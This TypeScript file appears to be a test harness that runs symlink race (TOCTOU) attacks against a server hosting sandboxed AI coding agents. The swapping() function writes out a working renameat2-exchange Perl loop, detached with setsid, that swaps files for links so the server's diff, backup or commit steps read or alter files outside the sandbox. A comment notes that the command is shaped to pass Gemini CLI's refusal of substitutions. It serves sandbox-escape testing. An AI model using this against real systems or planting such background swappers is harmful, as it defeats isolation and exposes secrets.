/** Where a race is run: a ticket whose agent swaps, and the ways to make the server read it. */
export type RaceArena = {
  /** Starts a run whose agent swaps, and then waits for its model. */
  swap(swapped: Swapped): Promise<string>;
  /** Reads the changes, by several readers at the same time, as JSON and as a patch. */
  diff(): Promise<string>;
  /** Takes a backup; gives its files and all git objects of its tickets. */
  backup(): Promise<string>;
  sync(): Promise<string>;
  housekeeping(): Promise<string>;
  /** Lets the agent come to its end; gives the events of the run and all that was pushed. */
  finish(): Promise<string>;
  /** Cancels the run; gives its events. */
  cancel(): Promise<string>;
  /** Starts a run whose agent continues its conversation in a new process; gives its events. */
  load(): Promise<string>;
  /** Deletes the ticket by force. */
  remove(): Promise<string>;
};

/**
 * A program in the sandbox that swaps files and folders for links as fast as it can, against one thing that the server does with them.
 * The harm is always one: what only files outside of the sandbox hold, or are called, comes out; or one of these is changed.
 */
export type RaceAttack = {
  name: string;
  /** How often it is done; each is a chance. */
  times: number;
  attempt(arena: RaceArena): Promise<string>;
  /** Why it is not tried without the defence. */
  notProved?: string;
};

const ENDED = 'the swapping process has ended by then';
const ONLY_BEGINS = 'it begins what the next ones need';
const OTHER_CARE = 'not tried without confinement: its program may have other care for links';

/** In this order, in two runs of one ticket. */
export const RACE_ATTACKS: readonly RaceAttack[] = [
  {
    name: 'files that the agent swaps, in the run',
    times: 1,
    attempt: (arena) => arena.swap('files'),
    notProved: ONLY_BEGINS,
  },
  { name: 'GET diff, by many readers', times: 40, attempt: (arena) => arena.diff() },
  { name: 'a backup, of files and of the conversation', times: 12, attempt: (arena) => arena.backup() },
  {
    name: 'POST sync',
    times: 4,
    attempt: (arena) => arena.sync(),
    notProved: 'it is refused while an agent is at work',
  },
  {
    name: 'the clean-up, and the watch over the size of the workspace',
    times: 4,
    attempt: (arena) => arena.housekeeping(),
    notProved: OTHER_CARE,
  },
  { name: 'the commit at the end of the run', times: 1, attempt: (arena) => arena.finish(), notProved: ENDED },
  {
    name: 'a new process that loads the conversation',
    times: 1,
    attempt: (arena) => arena.load(),
    notProved: OTHER_CARE,
  },
  {
    name: 'folders that the agent swaps, in the run',
    times: 1,
    attempt: (arena) => arena.swap('folders'),
    notProved: ONLY_BEGINS,
  },
  { name: 'GET diff of folders, by many readers', times: 12, attempt: (arena) => arena.diff(), notProved: OTHER_CARE },
  { name: 'a backup, of folders', times: 6, attempt: (arena) => arena.backup(), notProved: OTHER_CARE },
  { name: 'a cancel', times: 1, attempt: (arena) => arena.cancel(), notProved: ENDED },
  { name: 'GET diff of what a canceled run left', times: 1, attempt: (arena) => arena.diff(), notProved: ENDED },
  {
    name: 'DELETE with force, of a ticket whose agent swaps',
    times: 1,
    attempt: (arena) => arena.remove(),
    notProved: OTHER_CARE,
  },
];

/** Few: a program that finds a link where it saw a file mostly gives up, so that one hit is not to be spoilt by another. */
const PAIRS = 3;
const RENAMEAT2 = { x64: 316, arm64: 276 };

export type Swapped = 'files' | 'folders';

/**
 * The shell command of the swaps: it prepares pairs of a file, or folder, and a link in the workspace and in the folder of the
 * conversation, and leaves the program in the background.
 * @param targets of the links
 * @param text as long as the secret: git reads as many bytes as the file had that it looked at
 */
export function swapping(swapped: Swapped, targets: readonly string[], text: string, arch = process.arch): string {
  const call = arch === 'arm64' ? RENAMEAT2.arm64 : RENAMEAT2.x64;
  const make = (path: string) =>
    swapped === 'files' ? `echo ${text} > ${path}` : `mkdir -p ${path}; echo ${text} > ${path}/secret.txt`;
  const pairs = (at: string) =>
    Array.from(
      { length: PAIRS },
      (_, index) => `${make(`${at}/s${index}`)}; ln -sfn ${targets[index % targets.length]} ${at}/t${index}`,
    );
  // RENAME_EXCHANGE: at each moment there is one of the two.
  const program = `my $at = $ARGV[0]; while (1) { for my $n (0 .. ${PAIRS - 1}) { my ($one, $other) = ("$at/s$n", "$at/t$n"); syscall(${call}, -100, $one, -100, $other, 2) } }`;
  const folders = ['race', '$chats/race'];
  return [
    // Gemini CLI runs no command that holds a substitution.
    'for chats in ~/.gemini/tmp/*/chats; do',
    ...folders.map((at) => `rm -rf ${at}; mkdir -p ${at}`),
    ...folders.flatMap(pairs),
    ...folders.map((at) => `setsid -f perl -e '${program}' ${at} > /dev/null 2>&1 < /dev/null`),
    'done',
  ].join('\n');
}
